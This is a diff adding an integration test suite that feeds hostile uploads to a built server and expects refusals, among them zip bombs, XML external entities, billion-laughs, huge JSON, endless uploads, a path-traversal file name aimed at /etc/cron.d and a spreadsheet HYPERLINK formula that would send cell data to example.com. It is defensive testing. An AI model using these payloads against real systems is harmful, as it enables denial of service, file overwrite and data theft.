@@ -1,0 +1,141 @@
+import path from 'node:path';
+import { setTimeout as pause } from 'node:timers/promises';
+import type { Cast } from '../../tools/trial/cast.mts';
+import { MemoryWatch } from '../../tools/trial/memory-of.mts';
+import { Product } from '../../tools/trial/start-product.mts';
+import { Visitor, type Answer } from '../../tools/trial/visitor.mts';
+import { bytesIn, uploadWithoutEnd } from './endless-upload.ts';
+import * as files from './hostile-files.ts';
+
+const MB = 1024 * 1024;
+
+interface Version {
+  state: string;
+  verdict: { ok: boolean; rows: number; accepted: number; groups: { code: string; severity: string; example: { params: { reason?: string } } }[] } | null;
+}
+
+interface Batch {
+  state: string;
+  lines: number;
+  totals: Record<string, string>;
+  refusal: { code: string } | null;
+  fileName: string;
+}
+
+describe('hostile input at the doors of the built server', () => {
+  const product = new Product();
+  let cast: Cast;
+  let supplier: Visitor;
+  let buyer: Visitor;
+
+  beforeAll(async () => {
+    cast = await product.start();
+    supplier = await Visitor.signIn(product.address, cast, cast.supplier);
+    buyer = await Visitor.signIn(product.address, cast, cast.buyer);
+  }, 180_000);
+
+  afterEach(async () => {
+    const { status } = await supplier.get('/health');
+    expect(status).toBe(200);
+  });
+
+  afterAll(() => product.stop(), 60_000);
+
+  const blob = (content: string | Uint8Array) => new Blob([typeof content === 'string' ? content : Buffer.from(content)]);
+
+  async function report(name: string, content: string | Uint8Array): Promise<Version> {
+    const { status, body } = await supplier.upload<{ id: string }>(`/duties/${cast.duties['2026-03']}/versions`, name, blob(content));
+    expect([status, body]).toEqual([202, { id: expect.any(String) }]);
+    return supplier.until<Version>(`/versions/${body.id}`);
+  }
+
+  async function batch(name: string, content: string | Uint8Array): Promise<Batch> {
+    const { status, body } = await buyer.upload<{ id: string }>('/spend/batches', name, blob(content));
+    expect([status, body]).toEqual([201, expect.objectContaining({ id: expect.any(String) })]);
+    return buyer.until<Batch>(`/spend/batches/${body.id}`);
+  }
+
+  const declaration = (content: string): Promise<Answer> => supplier.upload('/declarations', 'footprint.json', blob(content));
+  const blocking = ({ verdict }: Version) => verdict?.groups.filter(({ severity }) => severity === 'blocksFile').map(({ code, example }) => example.params.reason ?? code);
+
+  /** Where uploads wait; what was refused is taken away soon after the answer. */
+  const spool = () => path.join(product.folder, 'spool');
+  async function settled<T>(look: () => T, wanted: T): Promise<void> {
+    for (let tries = 0; tries < 50 && look() !== wanted; tries += 1) await pause(100);
+    expect(look()).toBe(wanted);
+  }
+
+  test.each([
+    ['an empty file', 'tom.csv', () => '', 'file-empty'],
+    ['a picture named as a workbook', 'rapport.xlsx', () => files.png, 'not-a-table'],
+    ['a workbook with a password', 'rapport.xlsx', files.protectedWorkbook, 'password-protected'],
+    ['a zip bomb', 'rapport.xlsx', files.workbookBomb, 'size'],
+    ['a table of more than 500 columns', 'rapport.csv', () => files.wideReport(600), 'too-many-columns'],
+    ['a cell of 40 kB', 'rapport.csv', () => files.reportText('x'.repeat(40_000)), 'cell-too-long'],
+  ])('%s is a finding of the report', async (_what, name, content, code) => {
+    const version = await report(name, content());
+    expect(version.verdict).toMatchObject({ ok: false, accepted: 0 });
+    expect(blocking(version)).toEqual([code]);
+  });
+
+  test.each([
+    ['an empty file', 'tom.csv', () => '', 'file-empty'],
+    ['a picture', 'hovedbok.xlsx', () => files.png, 'not-a-table'],
+    ['a workbook with a password', 'hovedbok.xlsx', files.protectedWorkbook, 'password-protected'],
+    ['a zip bomb', 'fakturaer.zip', files.archiveBomb, 'zip-bomb'],
+    ['an external entity', 'faktura.xml', () => files.invoice('&secret;', files.externalEntity), 'xml-doctype'],
+    ['a billion laughs', 'faktura.xml', () => files.invoice('1', files.billionLaughs, '&l10;'), 'xml-doctype'],
+  ])('%s refuses the batch', async (_what, name, content, code) => {
+    expect(await batch(name, content())).toMatchObject({ state: 'refused', refusal: { code } });
+  });
+
+  test('Windows-1252 with decimal commas is read', async () => {
+    const version = await report('rapport.csv', files.windows1252(files.reportText()));
+    expect(version.verdict).toMatchObject({ rows: 2, accepted: 2 });
+    expect(blocking(version)).toEqual([]);
+  });
+
+  test('a formula stays text and leaves the product harmless', async () => {
+    const bait = `=HYPERLINK("http://example.com?x="&A1;"se")`;
+    const ledger = `Bilagsnummer;Bilagsdato;Art;Leverandørnavn;Beløp\n1;03.03.2026;1150;"${bait.replaceAll('"', '""')}";100,00\n`;
+    expect(await batch('hovedbok.csv', ledger)).toMatchObject({ state: 'posted', lines: 1, totals: { NOK: '100.00' } });
+  });
+
+  test('a file name that climbs out of its folder is cut to its last part', async () => {
+    const posted = await batch('../../../etc/cron.d/faktura.xml', files.invoice('climbing'));
+    expect(posted).toMatchObject({ state: 'posted', fileName: 'faktura.xml' });
+  });
+
+  test.each([
+    ['nested a hundred thousand deep', () => files.deepJson(100_000)],
+    ['forty megabytes of nothing', () => files.longJson(40 * MB)],
+    ['cut off', () => '[{"id":"'],
+  ])('footprints %s are refused with a code', async (_what, content) => {
+    const { status, body } = await declaration(content());
+    expect([status, body['code']]).toEqual([422, 'declaration-refused']);
+  });
+
+  test('an upload without end is refused while it streams; memory and disk stay bounded', async () => {
+    await settled(() => bytesIn(spool()), 0);
+    const watch = new MemoryWatch(() => ({ serve: [product.pidOf('serve')] }));
+    const door = `${product.address}/api/v1/duties/${cast.duties['2026-03']}/versions`;
+    const refusal = await uploadWithoutEnd(door, supplier.headers, 2048 * MB);
+    watch.stop();
+    expect(refusal).toMatchObject({ status: 413, body: { code: 'file-too-large', status: 413, type: 'urn:tallgrunn:problem:file-too-large' } });
+    expect(refusal.sentBytes).toBeLessThan(512 * MB);
+    expect(watch.most['serve']).toBeLessThan(700);
+    await settled(() => bytesIn(spool()), 0);
+    process.stdout.write(`${JSON.stringify({ endlessUpload: { sentMB: refusal.sentBytes / MB, serveMB: watch.most['serve'] } })}\n`);
+  }, 120_000);
+
+  test('a file that comes with wrong fields is not kept', async () => {
+    const { status } = await buyer.upload('/spend/batches', 'faktura.xml', blob(files.invoice('wrong fields')), { buyerId: 'nobody' });
+    expect(status).toBe(400);
+    await settled(() => bytesIn(spool()), 0);
+  });
+
+  test('an upload by nobody is refused at once and then cut off', async () => {
+    const refusal = await uploadWithoutEnd(`${product.address}/api/v1/spend/batches`, {}, 2048 * MB);
+    expect(refusal.status).toBe(403);
+  }, 60_000);
+});
